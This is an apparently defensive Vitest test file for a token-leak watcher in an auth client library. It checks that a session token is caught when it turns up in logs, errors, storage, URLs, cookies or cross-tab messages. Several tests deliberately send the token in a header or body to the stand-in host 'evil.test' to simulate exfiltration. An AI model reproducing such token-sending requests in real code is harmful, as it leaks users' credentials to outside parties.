import { describe, expect, it, vi } from 'vitest'
import { createAxios } from '../../src/clients/axios.ts'
import { createFetch } from '../../src/clients/fetch.ts'
import { RefreshUnavailableError } from '../../src/session/errors.ts'
import { createStanding } from '../../src/session/standing.ts'
import { json } from '../helpers/fake-server.ts'
import { createWorld } from '../helpers/world.ts'
import { mayShowTokens, takeLeaks } from './secrets.ts'
import { lookAtPage, watchEnvironment } from './watched.ts'

/** Alice is signed in, and her token is known to who wants to leak it. */
async function arrange(options: object = {}) {
  const world = createWorld()
  const { session, events } = await world.openSignedIn(options)
  const token = String(await session.getAccessToken())
  return { ...world, session, events, token, send: createFetch(session) }
}

const swallow = (promise: Promise<unknown>) => promise.catch(() => undefined)

describe('the watch over tokens', () => {
  it('has nothing to say about a life without a leak', async () => {
    const { session, send, server, clock } = await arrange()
    server.expireAll()
    const answers = [
      send('/api/me'),
      send('https://evil.test/'),
      send('/api/2', { method: 'POST', body: 'x' }),
    ]
    await clock.advance(10_000)
    await Promise.all(answers)
    server.onRefresh = () => json({}, { status: 401 })
    clock.sleep(120_000)
    await Promise.all([swallow(send('/api/3')), clock.advance(20_000)])
    await Promise.all([swallow(session.signOut()), clock.advance(1000)])
    expect(takeLeaks()).toEqual([])
  })

  it('sees a token in the console, also behind a spy', async () => {
    const { token } = await arrange()
    const spy = vi.spyOn(console, 'debug').mockImplementation(() => {})
    console.debug('held', { token: { value: token } })
    expect(spy).toHaveBeenCalledOnce()
    expect(console.debug).toHaveBeenCalledOnce()
    spy.mockRestore()
    expect(takeLeaks()).toEqual(['the console'])
  })

  it.each<[string, (error: Error, token: string) => unknown]>([
    ['its cause', (error, token) => Object.assign(error, { cause: new Error('why', { cause: token }) })],
    ['its stack', (error, token) => Object.assign(error, { stack: `at (/api?token=${token})` })],
    ['a hidden property', (error, token) => Object.defineProperty(error, Symbol('x'), { value: { token } })],
    ['what it is as JSON', (error, token) => Object.assign(error, { toJSON: () => ({ token }) })],
    [
      'what it looks like',
      (error, token) => Object.assign(error, { [Symbol.for('nodejs.util.inspect.custom')]: () => token }),
    ],
    [
      'headers',
      (error, token) =>
        Object.assign(error, { request: new Request('https://app.test', { headers: { token } }) }),
    ],
  ])('sees a token that comes to an error after it was made: in %s', async (_, spoil) => {
    const { token } = await arrange()
    spoil(new RefreshUnavailableError('no'), token)
    expect(takeLeaks()).toEqual(['an error of the library'])
  })

  it('sees a token in an event and in a snapshot', async () => {
    const { token, environment } = await arrange()
    const standing = createStanding(environment, 'full')
    standing.change({}, { type: 'ended', reason: 'expired', message: `refused ${token}` })
    standing.change({ error: new Error(token) })
    expect(takeLeaks()).toEqual(['an event', 'a snapshot'])
  })

  it('sees a token in the storage', async () => {
    const { token, open } = await arrange()
    open({ name: token }).session.dispose()
    expect(takeLeaks()).toEqual(['the storage'])
  })

  it('sees a token in a message, where tabs share none', async () => {
    const { token, environment } = await arrange()
    const watched = watchEnvironment(environment, { refresh: '/auth/refresh', shareToken: false })
    watched.openChannel?.('any', () => {}).post({ token })
    expect(takeLeaks()).toEqual(['a message to other tabs, although they share no token'])
  })

  it.each([
    ['as it is', (token: string) => token],
    ['percent-encoded', (token: string) => token.replaceAll('.', '%2E')],
  ])('sees a token in the URL of a request of fetch: %s', async (_, written) => {
    const { token, send, clock } = await arrange()
    await Promise.all([send(`/api/me?token=${written(token)}`), clock.advance(100)])
    expect(takeLeaks()).toContain('the URL of a request')
  })

  it('sees a token in the URL of a request of axios', async () => {
    const { token, session, clock, server } = await arrange()
    const env = { fetch: server.fetch }
    const api = createAxios(session, { adapter: 'fetch', baseURL: 'https://app.test', env })
    await Promise.all([api.get('/me', { params: { token } }), clock.advance(100)])
    expect(takeLeaks()).toContain('the URL of a request')
  })

  it.each<[string, (token: string) => RequestInit]>([
    ['a header', (token) => ({ headers: { 'X-Token': token } })],
    ['the body', (token) => ({ method: 'POST', body: JSON.stringify({ token }) })],
  ])('sees a token that goes to another origin in %s', async (_, init) => {
    const { token, send, clock } = await arrange({ origins: ['https://api.test'] })
    await Promise.all([send('https://api.test/x', init(token)), clock.advance(100)])
    expect(takeLeaks()).toEqual([])
    await Promise.all([send('https://evil.test/x', init(token)), clock.advance(100)])
    expect(takeLeaks()).toEqual(['a request to an origin that is not allowed'])
  })

  it('sees a token in what fetch rejects with', async () => {
    const { session, token } = await arrange()
    const send = createFetch(session, { fetch: () => Promise.reject(new TypeError(`no answer to ${token}`)) })
    await swallow(send('/api/me'))
    expect(takeLeaks()).toEqual(['a rejection of fetch'])
  })

  it('sees a token in an error of axios and in the config of an answer', async () => {
    const { session, token } = await arrange()
    const env = { fetch: async () => new Response(null, { status: 500 }) }
    const api = createAxios(session, { adapter: 'fetch', baseURL: 'https://app.test', env })
    await swallow(api.get('/me', { headers: { 'X-Copy': token } }))
    expect(takeLeaks()).toEqual(['an error of axios'])
    await api.get('/me', { headers: { 'X-Copy': token }, validateStatus: null })
    expect(takeLeaks()).toEqual(['the config of an axios response'])
  })

  it('sees a token in an error that a listener throws', async () => {
    const { session, token, clock } = await arrange()
    const unsubscribe = session.subscribe(() => {
      throw new Error(token)
    })
    await Promise.all([swallow(session.signOut()), clock.advance(1000)])
    unsubscribe()
    expect(takeLeaks()).toEqual(['an error that was reported'])
  })

  it.each(['cookie', 'localStorage', 'sessionStorage'])(
    'sees a token that the page has in its %s',
    async (name) => {
      const { token } = await arrange()
      vi.stubGlobal('document', { cookie: name === 'cookie' ? `a=${token}` : '' })
      for (const storage of ['localStorage', 'sessionStorage'])
        vi.stubGlobal(storage, storage === name ? { kept: token } : {})
      lookAtPage()
      vi.unstubAllGlobals()
      expect(takeLeaks()).toEqual([name === 'cookie' ? 'document.cookie' : name])
    },
  )

  it('looks away in a test that says so', async () => {
    const { token } = await arrange()
    mayShowTokens('this is the test of the permission')
    const spy = vi.spyOn(console, 'info').mockImplementation(() => {})
    console.info(token)
    spy.mockRestore()
    expect(takeLeaks()).toEqual([])
  })

  it('does not look away in the next one', async () => {
    const { token } = await arrange()
    const spy = vi.spyOn(console, 'info').mockImplementation(() => {})
    console.info(token)
    spy.mockRestore()
    expect(takeLeaks()).toEqual(['the console'])
  })
})
